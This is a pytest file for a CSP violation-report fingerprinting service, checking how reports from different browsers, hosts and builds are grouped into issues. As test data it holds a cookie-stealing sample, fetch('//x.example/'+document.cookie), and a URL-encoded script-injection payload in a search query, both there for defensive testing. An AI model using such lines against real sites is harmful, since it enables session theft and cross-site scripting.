from __future__ import annotations

import base64
import gzip
import json
from collections import defaultdict
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ingest.normalise import normalise
from ingest.wire import read
from issues.fingerprint import VERSION, Fingerprint, fingerprint, normalised_sample, stable_path, title_of
from issues.scrub import mask_path, scrub, scrub_sample
from issues.verdicts import ProjectFacts, judge
from tests.issues.reports import CHROME, FIREFOX, SAFARI, violation

WIRE = Path(__file__).parent.parent / "wire"
INLINE = {
    "effective-directive": "script-src-elem",
    "blocked-uri": "inline",
    "source-file": "https://shop.example/page",
    "line-number": "14",
}
EVAL = {"effective-directive": "script-src", "blocked-uri": "eval"}


def of(**fields: str) -> Fingerprint:
    found = violation({name.replace("_", "-"): value for name, value in fields.items()})
    return fingerprint(found, judge(found, ProjectFacts()))


def same(*reports: dict[str, str]) -> bool:
    return len({of(**report).key for report in reports}) == 1


def image(address: str, **fields: str) -> dict[str, str]:
    return {"effective_directive": "img-src", "blocked_uri": address, **fields}


def test_browsers_spellings_paths_and_modes_do_not_split() -> None:
    script = {"blocked_uri": "https://cdn.x.io/app.js"}
    assert same(
        {**script, "effective_directive": "script-src-elem", "user_agent": CHROME},
        {**script, "effective_directive": "script-src-elem", "user_agent": FIREFOX, "disposition": "report"},
        {"blocked_uri": "https://cdn.x.io", "violated_directive": "script-src 'self'", "user_agent": SAFARI},
        {
            "blocked_uri": "https://CDN.x.io:443/v2/other.js?a=1",
            "effective_directive": "script-src",
            "document_uri": "https://shop.example/other",
        },
    )


@pytest.mark.parametrize(
    "one, other",
    [
        ("https://www.google.de/ads/ga-audiences", "https://www.google.co.uk/ads/ga-audiences"),
        ("https://i1.ytimg.com/vi/a.jpg", "https://i.ytimg.com/vi/b.jpg"),
        ("https://secure.gravatar.com/avatar/a", "https://0.gravatar.com/avatar/b"),
        ("https://region1.google-analytics.com/g/collect", "https://analytics.google.com/g/collect"),
        ("https://i0.wp.com/a.png", "https://i2.wp.com/b.png"),
        ("data:image/png;base64,AAAA", "data"),
        ("chrome-extension://nkbihfbeogaeaoehlefnkodbefgpgknn/a.png", "moz-extension"),
    ],
)
def test_one_vendor_is_one_issue(one: str, other: str) -> None:
    assert same(image(one), image(other))


@pytest.mark.parametrize(
    "one, other",
    [
        ("https://a.x.io/a.png", "https://b.x.io/a.png"),
        ("https://x.io/a.png", "http://x.io/a.png"),
        ("https://x.io/a.png", "https://x.io:8443/a.png"),
        ("https://www.google.de/ads/ga-audiences", "https://www.google-analytics.com/collect"),
        ("data", "blob"),
        ("data", "chrome-extension"),
        ("https://shop.example/a.png", "https://www.shop.example/a.png"),
    ],
)
def test_what_is_not_one_issue(one: str, other: str) -> None:
    assert not same(image(one), image(other))


def test_inline_code_is_told_apart_by_its_sample() -> None:
    assert not same(
        {**INLINE, "script_sample": "window.dataLayer=window.dataLayer||[];da"},
        {**INLINE, "script_sample": "fetch('//x.example/'+document.cookie)"},
    )
    assert same(
        {**INLINE, "script_sample": 'window.RB={env:"prod",build:4413};'}, {**INLINE, "script_sample": 'window.RB={env:"test",build:17};'}
    )
    assert same(
        {**INLINE, "script_sample": "  \n var a = start(document.bo"}, {**INLINE, "script_sample": "var a = start(document.body, 'x', 99)"}
    )
    assert same({**INLINE, "script_sample": "javascript:void(0)"}, INLINE)


def test_styles_that_a_file_writes_are_one_issue_whatever_their_names_and_builds() -> None:
    style = {"effective_directive": "style-src-elem", "blocked_uri": "inline"}
    assert same(
        {**style, "source_file": "https://shop.example/static/vendor.a1b2c3d4.js", "script_sample": ".css-9q8w7e{display:grid;}"},
        {**style, "source_file": "https://shop.example/static/vendor.ffee0011.js", "script_sample": ".css-0plk9j{margin:0;}"},
    )


def test_eval_is_told_apart_by_the_script_that_does_it() -> None:
    gtm = {**EVAL, "source_file": "https://www.googletagmanager.com/gtm.js?id=GTM-1"}
    assert same(gtm, {**EVAL, "source_file": "https://www.googletagmanager.com"})
    assert not same(gtm, EVAL)
    assert not same({**EVAL, "script_sample": "function anonymous("}, {**EVAL, "script_sample": "//# sourceURL=userscript.html?name=Q"})
    assert same(
        {"effective_directive": "script-src", "blocked_uri": "wasm-eval"},
        {**EVAL, "blocked_uri": "wasm-eval", "source_file": "https://shop.example/pdf.worker.js"},
    )


def test_noise_and_signal_never_share_a_key() -> None:
    font = {"effective_directive": "font-src", "blocked_uri": "https://fonts.gstatic.com/a.woff2"}
    assert not same(font, {**font, "source_file": "chrome-extension"})
    assert not same(INLINE, {**INLINE, "source_file": "moz-extension"})


def test_a_page_on_the_developers_machine_does_not_decide_about_the_site() -> None:
    assert not same(INLINE, {**INLINE, "document_uri": "http://localhost:3000/page", "source_file": "http://localhost:3000/page"})


def test_payloads_in_the_pages_address_are_one_hole() -> None:
    page = "https://shop.example/search?q="
    assert same(
        {**INLINE, "document_uri": page + "%3Cscript%3Ealert(document.domain)%3C/script%3E", "script_sample": "alert(document.domain)"},
        {**INLINE, "document_uri": page + "%3Cscript%3Efetch(%27//x.example/%27)%3C/script%3E", "script_sample": "fetch('//x.example/')"},
    )


def test_what_a_project_declares_does_not_change_the_key() -> None:
    found = violation(
        {"effective-directive": "frame-src", "blocked-uri": "acme-app://cart", "document-uri": "https://blog.shop.example/checkout"}
    )
    declared = (
        ProjectFacts(),
        ProjectFacts(sites=("other.example",)),
        ProjectFacts(own_schemes=("acme-app",)),
        ProjectFacts(sensitive=("/*",)),
        ProjectFacts(paused=frozenset({"unknown-scheme"})),
        ProjectFacts(own_extensions=("abc",)),
    )
    assert len({fingerprint(found, judge(found, facts)).key for facts in declared}) == 1


def test_who_frames_the_page_is_the_key_whether_named_as_blocked_or_as_referrer() -> None:
    framed = {"effective_directive": "frame-ancestors", "document_uri": "https://shop.example/pay"}
    assert same(
        {**framed, "blocked_uri": "https://evil.example/"},
        {**framed, "blocked_uri": "https://shop.example/pay", "referrer": "https://evil.example/prize"},
        {**framed, "blocked_uri": "", "referrer": "https://evil.example/"},
    )
    assert of(**framed, blocked_uri="https://shop.example/pay", referrer="").title == "Framing by shop.example"


def test_old_firefox_names_a_handler_in_the_sample_only() -> None:
    handler = {"blocked_uri": "inline", "script_sample": "onclick attribute on A element"}
    assert same({**handler, "effective_directive": "script-src-attr"}, {**handler, "effective_directive": "script-src"})


def test_whose_page_it_was_on_and_no_more_of_the_page() -> None:
    """A copy of the page decides nothing about the page; one site under many names and endings is one."""
    blocked = {"effective_directive": "img-src", "blocked_uri": "https://cdn.x.io/a.png"}

    def on(host: str) -> dict[str, str]:
        return {**blocked, "document_uri": f"https://{host}/"}

    assert same(on("www.shop.example"), on("shop.co.uk"), on("pay.shop.de"))
    assert not same(on("shop.example"), on("shop.example.evil.net"))
    assert same(on("shop-git-one.vercel.app"), on("shop-git-two.vercel.app"))
    assert not same(on("shop-git-one.vercel.app"), on("shop.example"))
    proven = {"effective_directive": "font-src", "blocked_uri": "chrome-extension"}
    assert same({**proven, "document_uri": "https://shop.example/"}, {**proven, "document_uri": "https://evil.net/"})


def test_what_only_the_policy_speaks_against_is_apart_from_what_an_address_proves() -> None:
    policy = "default-src 'self'; report-uri /c"
    kept_out = {"effective_directive": "connect-src", "blocked_uri": "https://api.x.io/", "original_policy": policy}
    kept_out |= {"source_file": "https://w.x.io/embed.js", "disposition": "enforce"}
    assert of(**kept_out).title == "Connection made by a script that the policy keeps out"
    assert not same(kept_out, {**kept_out, "source_file": "chrome-extension"})


def test_words() -> None:
    found = of(effective_directive="script-src-elem", blocked_uri="https://cdn.x.io/a.js")
    assert (found.version, found.family, found.directive, found.source) == (VERSION, "script", "script-src-elem", "cdn.x.io")
    assert (found.title, found.grouped_by) == ("Script from cdn.x.io", "script from cdn.x.io, on pages of shop")
    assert title_of(found.title, enforced=True) == "Script from cdn.x.io blocked"
    assert title_of(found.title, enforced=False) == "Script from cdn.x.io would be blocked"
    assert of(**INLINE).title == "Inline script"
    assert of(effective_directive="script-src-attr", blocked_uri="inline").title == "Inline event handler"
    assert of(effective_directive="connect-src", blocked_uri="wss://rt.x.io/").title == "Connection to wss://rt.x.io"
    assert of(effective_directive="frame-ancestors", blocked_uri="https://evil.example/").title == "Framing by evil.example"
    assert of(effective_directive="font-src", blocked_uri="moz-extension").title == "Font from an extension"
    assert (
        of(effective_directive="style-src-elem", blocked_uri="inline", source_file="moz-extension").title
        == "Inline style from an extension"
    )
    made = {"effective_directive": "trusted-types", "blocked_uri": "trusted-types-policy", "source_file": "https://shop.example/a.js"}
    assert of(**made, script_sample="bar").grouped_by == "Trusted Types policy, “/a.js”, on pages of shop"
    assert of(**INLINE).grouped_by == "inline script, no sample, on pages of shop"
    assert of(**INLINE, script_sample="window.x = start();").grouped_by == "inline script, “window.x = start();”, on pages of shop"
    assert of(**EVAL).title == "Text run as code (eval)"


@settings(max_examples=300, deadline=None)
@given(
    st.text(alphabet="/abcdefXYZ019-_.~%=+", max_size=60).map("/".__add__), st.text(alphabet="abcXYZ0189-_.@='\"(){};[] \n", max_size=60)
)
def test_stored_forms_have_the_key_of_the_received(path: str, sample: str) -> None:
    assert stable_path(mask_path(path)) == stable_path(path)
    assert normalised_sample(scrub_sample(sample)) == normalised_sample(sample)


def test_scrubbed_violations_keep_their_key() -> None:
    for fields in (
        INLINE,
        image("https://cdn.x.io/u/joe@mail.example/a.png?x=1"),
        {**EVAL, "source_file": "https://shop.example/a.9f8a77b1.js?v=2"},
    ):
        found = violation({name.replace("_", "-"): value for name, value in fields.items()})
        judgement = judge(found, ProjectFacts())
        assert fingerprint(scrub(found), judgement).key == fingerprint(found, judgement).key


# Pages for which the three browsers did not send the same kinds (tests/wire, README of the recordings): extensions ran in two of
# them, http images are upgraded by one, framing came from one; and WebKit's report-uri has no samples (those join in issues.spots).
NOT_ALIKE = {"extension-target", "http-subresource", "frame-ancestors", "sample-long", "sample-short"}


def recorded_keys(skip: set[tuple[str, str]]) -> dict[str, dict[str, set[str]]]:
    """page -> key -> browsers."""
    keys: dict[str, dict[str, set[str]]] = defaultdict(lambda: defaultdict(set))
    for browser in ("chromium", "firefox", "webkit"):
        with gzip.open(WIRE / f"{browser}.jsonl.gz", "rt", encoding="utf-8") as lines:
            for request in map(json.loads, lines):
                if request["method"] != "POST" or (browser, request["mode"]) in skip:
                    continue
                for report in read(base64.b64decode(request["body_b64"])).reports:
                    found = normalise(report)
                    keys[request["page"]][fingerprint(found, judge(found, ProjectFacts(sites=("shop.example",)))).key].add(browser)
    return keys


def test_three_browsers_on_one_page_give_one_issue_for_each_kind_of_violation() -> None:
    keys = recorded_keys(skip=set())
    assert len(keys) == 45
    lone = {page for page, found in keys.items() if any(browsers != {"chromium", "firefox", "webkit"} for browsers in found.values())}
    assert lone <= NOT_ALIKE


def test_with_samples_the_three_browsers_agree_there_too() -> None:
    keys = recorded_keys(skip={("webkit", "uri.enforce"), ("webkit", "uri.report")})
    for page in ("sample-long", "sample-short", "tt-policy", "tt-sink", "eval"):
        assert list(keys[page].values()) == [{"chromium", "firefox", "webkit"}]
